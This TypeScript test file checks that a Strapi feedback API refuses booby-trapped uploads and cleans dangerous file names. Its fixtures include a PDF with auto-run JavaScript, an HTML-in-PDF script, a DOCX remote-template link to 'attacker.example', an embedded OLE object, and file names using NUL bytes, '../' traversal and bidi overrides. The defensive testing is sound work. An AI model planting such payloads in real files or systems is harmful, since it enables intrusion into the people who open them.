/**
 * D7, D8, D12: attachments judged by what they can do, and original file names cleaned wherever they are stored
 * or sent back. Every refusal is a 400 naming the file and stores nothing.
 */
import JSZip from 'jszip';
import request from 'supertest';
import { hashTrackingCode, normalizeTrackingCode } from '../../../src/domain/tracking-code';
import { overrideEnv } from '../../setup/env-override';
import { adminLogin } from '../../setup/http';
import { storageCounts } from '../../setup/storage';
import { useStrapi } from '../../setup/strapi';

overrideEnv({ FEEDBACK_MIN_FILL_SECONDS: '0', FEEDBACK_SUBMIT_LIMIT: '1000' });

const app = useStrapi();

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...relationships: string[]) =>
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  relationships.join('') +
  '</Relationships>';

async function docx(extra: Record<string, string | Buffer>): Promise<Buffer> {
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
  );
  zip.file(
    '_rels/.rels',
    rels(`<Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/>`)
  );
  zip.file(
    'word/document.xml',
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'
  );
  for (const [name, content] of Object.entries(extra)) zip.file(name, content);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/** The findings' reproductions. */
const jsPdf = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n' +
    '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
    "3 0 obj << /S /JavaScript /JS (app.alert('pwn')) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
);
const htmlPdf = Buffer.from('%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n%%EOF\n');
const extrelDocx = () =>
  docx({
    'word/_rels/settings.xml.rels': rels(
      `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>`
    ),
  });
const oleDocx = () => docx({ 'word/embeddings/oleObject1.bin': Buffer.alloc(512, 7) });

const fields = (formToken: string) => ({
  fullName: 'Lê Thị Thu',
  address: 'Tổ 5, phường Trung Tâm',
  phone: '0912 345 678',
  kind: 'other_issue',
  subject: 'Gửi kèm hồ sơ',
  content: 'Tôi gửi kèm tài liệu liên quan.',
  consent: { processing: true, publishAnswer: false },
  formToken,
});
const formToken = async () => (await request(app.server()).get('/api/feedbacks/form')).body.data.formToken;

describe('attachments that act on their own are refused, and nothing is stored', () => {
  it.each([
    ['js.pdf', 'application/pdf', async () => jsPdf],
    ['html_pdf.pdf', 'application/pdf', async () => htmlPdf],
    ['extrel.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', extrelDocx],
    ['oleobj.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', oleDocx],
  ])('%s', async (filename, contentType, make) => {
    const before = await storageCounts(app.strapi());
    const res = await request(app.server())
      .post('/api/feedbacks')
      .field('data', JSON.stringify(fields(await formToken())))
      .attach('files', await make(), { filename, contentType });
    expect(res.status).toBe(400);
    expect(res.body.error.name).toBe('ValidationError');
    const errors = res.body.error.details.errors;
    expect(errors).toHaveLength(1);
    expect(errors[0].path).toEqual(['files', '0']);
    expect(errors[0].messages.vi).toMatch(/mã lệnh|hành động tự động|đối tượng nhúng/);
    expect(await storageCounts(app.strapi())).toEqual(before);
  });
});

/** A multipart body written by hand, so that the file name carries bytes a client library would refuse. */
function rawMultipart(data: object, filename: string, content: Buffer) {
  const boundary = '----h4boundary7e1f';
  const body = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="data"\r\n\r\n${JSON.stringify(data)}\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="${filename}"\r\n` +
        'Content-Type: image/png\r\n\r\n'
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { body, type: `multipart/form-data; boundary=${boundary}` };
}

describe('original file names', () => {
  const PNG = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC',
    'base64'
  );

  it.each([
    ['a NUL', 'evil\u0000name.php.png', 'evilname.php.png'],
    ['a path', '../../../../tmp/pwn.png', 'pwn.png'],
    ['a bidi override', 'invoice\u202egnp.exe.png', 'invoicegnp.exe.png'],
    ['1,000 characters', `${'x'.repeat(1000)}.png`, `${'x'.repeat(116)}.png`],
  ])(
    'with %s are stored cleaned and bounded, and downloaded with a safe Content-Disposition',
    async (_, sent, stored) => {
      const { body, type } = rawMultipart(fields(await formToken()), sent, PNG);
      const res = await request(app.server()).post('/api/feedbacks').set('Content-Type', type).send(body);
      expect(res.status).toBe(201);
      const feedback = await app
        .strapi()
        .db.query('api::feedback.feedback')
        .findOne({
          where: { trackingCodeHash: hashTrackingCode(normalizeTrackingCode(res.body.data.trackingCode)!) },
          populate: ['attachments'],
        });
      const [attachment] = feedback.attachments;
      expect(attachment.originalName).toBe(stored);

      const token = await adminLogin(app.server(), 'vanphong@demo.example');
      const download = await request(app.server())
        .get(`/feedback-register/attachments/${attachment.documentId}/download`)
        .set('Authorization', `Bearer ${token}`);
      expect(download.status).toBe(200);
      const disposition = download.headers['content-disposition'];
      expect(disposition).toContain(`filename*=UTF-8''${encodeURIComponent(stored)}`);
      // eslint-disable-next-line no-control-regex -- no control character may reach a header
      expect(disposition).not.toMatch(/[\u0000-\u001f\u007f/\\]|\.\./);
    }
  );
});
